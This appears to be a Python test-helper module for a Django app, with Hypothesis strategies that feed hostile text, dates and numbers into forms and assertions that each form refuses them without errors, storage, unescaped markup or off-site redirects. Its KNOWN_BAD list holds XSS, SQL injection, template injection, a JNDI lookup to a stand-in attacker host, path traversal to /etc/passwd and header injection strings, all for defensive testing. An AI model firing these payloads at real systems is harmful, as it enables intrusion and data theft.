"""Hostile input for every form: a hypothesis strategy and one helper that judges the answer.

    @given(email=hostile_text(), password=hostile_text())
    def test_login_rejects_hostile_input(client, email, password):
        assert_form_rejects_cleanly(client, reverse("account_login"),
                                    {"login": email, "password": password}, [User, Session])

A rejected submission must: answer without a 500, show a field error when it renders the form
again, store nothing (the row counts of `count_models` are unchanged), never echo markup
unescaped, and never redirect off-site.
"""

from __future__ import annotations

from collections.abc import Iterable
from urllib.parse import urlsplit

from django.db.models import Model
from hypothesis import strategies as st

# Values a person, a script or a broken system actually sends.
KNOWN_BAD = [
    "",
    " ",
    "\x00",
    "ab\x00cd",
    "%00",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE members_organisation; --",
    "Robert'); DELETE FROM members_user;--",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example.com/a}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",  # right-to-left override
    "\ufeffBOM",
    "e\u0301\u0301\u0301\u0301",  # stacked combining marks
    "𝕭𝖆𝖗𝖚𝖒 😀",
    "ÆØÅ æøå",
    "\r\nSet-Cookie: x=1",
    "a" * 10_000,
    "ø" * 100_000,
    "-1",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "0001-01-01",
    "9999-12-31",
    "https://evil.example.com/",
    "//evil.example.com/",
]

_controls = st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co"]), min_size=1, max_size=40)
_long = st.builds(lambda s, n: s * n, st.sampled_from(["a", "ø", "<", "'", "\x00", "😀"]), st.integers(256, 20_000))


def hostile_text() -> st.SearchStrategy[str]:
    """Very long strings, control characters, HTML/JS, SQL fragments, unicode oddities, NUL bytes."""
    single = st.one_of(st.sampled_from(KNOWN_BAD), _controls, _long, st.text(max_size=200))
    return st.one_of(single, st.builds(lambda a, b: a + b, single, single))


def _counts(models: Iterable[type[Model]]) -> dict[str, int]:
    return {model._meta.label: model._default_manager.count() for model in models}


def assert_form_rejects_cleanly(
    client,
    url: str,
    field_values: dict,
    count_models: Iterable[type[Model]],
    *,
    method: str = "post",
    form_key: str = "form",
):
    """Submit `field_values` to `url` and check it was refused cleanly. Returns the response."""
    models = list(count_models)
    before = _counts(models)
    response = getattr(client, method)(url, field_values)
    shown = {key: value for key, value in field_values.items()}
    assert response.status_code < 500, f"{method.upper()} {url} {shown!r:.300} gave {response.status_code}"
    assert _counts(models) == before, f"{method.upper()} {url} {shown!r:.300} stored something"

    context = getattr(response, "context", None)
    if response.status_code == 200 and context is not None and form_key in context.keys():
        form = context[form_key]
        assert form.errors, f"{url} {shown!r:.300} re-rendered the form without saying what is wrong"

    if response.status_code in (301, 302, 303):
        target = urlsplit(response["Location"])
        assert target.netloc in ("", "testserver"), f"{url} redirected off-site to {response['Location']!r}"

    if response.get("Content-Type", "").startswith("text/html"):
        html = response.content.decode(errors="replace")
        for value in field_values.values():
            if isinstance(value, str) and "<" in value and len(value) < 1000:
                markup = value[value.index("<") :]
                if any(tag in markup.lower() for tag in ("<script", "<img", "<svg", "<iframe")):
                    assert markup not in html, f"{url} echoed markup unescaped: {markup!r:.100}"
    return response


def _assert_no_raw_markup(url: str, html: str, values: Iterable) -> None:
    for value in values:
        if isinstance(value, str) and "<" in value and len(value) < 1000:
            markup = value[value.index("<") :]
            if any(tag in markup.lower() for tag in ("<script", "<img", "<svg", "<iframe")):
                assert markup not in html, f"{url} shows markup unescaped: {markup!r:.100}"


def assert_shown_escaped(response, values: Iterable) -> None:
    """A page that shows stored values never shows their markup as markup."""
    assert response.status_code == 200, response.status_code
    _assert_no_raw_markup(response.request["PATH_INFO"], response.content.decode(errors="replace"), values)


def submit_hostile(
    client, url: str, field_values: dict, count_models: Iterable[type[Model]], *, method="post", form_key="form"
):
    """Submit odd values that may be valid: returns (response, accepted).

    Accepted (a redirect, or rows stored) is fine — the caller then checks what was stored and that
    it is shown escaped. Refused must be clean, exactly as `assert_form_rejects_cleanly` demands.
    """
    models = list(count_models)
    before = _counts(models)
    response = getattr(client, method)(url, field_values)
    shown = dict(field_values.items())
    assert response.status_code < 500, f"{method.upper()} {url} {shown!r:.300} gave {response.status_code}"
    if response.status_code in (301, 302, 303):
        target = urlsplit(response["Location"])
        assert target.netloc in ("", "testserver"), f"{url} redirected off-site to {response['Location']!r}"
    if response.get("Content-Type", "").startswith("text/html"):
        _assert_no_raw_markup(url, response.content.decode(errors="replace"), field_values.values())
    accepted = _counts(models) != before
    if not accepted:
        context = getattr(response, "context", None)
        if response.status_code == 200 and context is not None and form_key in context.keys():
            assert context[form_key].errors, f"{url} {shown!r:.300} re-rendered the form without saying what is wrong"
    return response, accepted


BAD_DATES = [
    "0001-01-01",
    "9999-12-31",
    "0000-00-00",
    "2024-02-30",
    "2023-02-29",
    "2024-13-01",
    "2024-00-10",
    "10000-01-01",
    "-2024-01-01",
    "31.12.2024",
    "2024/12/31",
    "2024-12-31T25:61",
    "1e9",
    "yesterday",
]


def hostile_date() -> st.SearchStrategy[str]:
    """Far past and future, impossible and malformed dates, or any hostile text."""
    return st.one_of(
        st.sampled_from(BAD_DATES), st.dates().map(lambda d: d.isoformat()), st.sampled_from(KNOWN_BAD), hostile_text()
    )


BAD_NUMBERS = ["-1", "0", "-0", "1e309", "NaN", "Infinity", "-Infinity", "0x10", "1,5", "1 000", "١٢٣", "9" * 40]


def hostile_number() -> st.SearchStrategy[str]:
    """Negative, zero, huge, non-finite and non-decimal numbers, or any hostile text."""
    return st.one_of(
        st.sampled_from(BAD_NUMBERS),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        hostile_text(),
    )


class rolled_back:  # noqa: N801 - used as a context manager, reads like one
    """Each hypothesis example in its own savepoint, rolled back: examples share one test transaction."""

    def __enter__(self):
        from django.db import transaction

        self._atomic = transaction.atomic()
        self._atomic.__enter__()
        return self

    def __exit__(self, *exc):
        from django.db import transaction

        transaction.set_rollback(True)
        return self._atomic.__exit__(*exc)
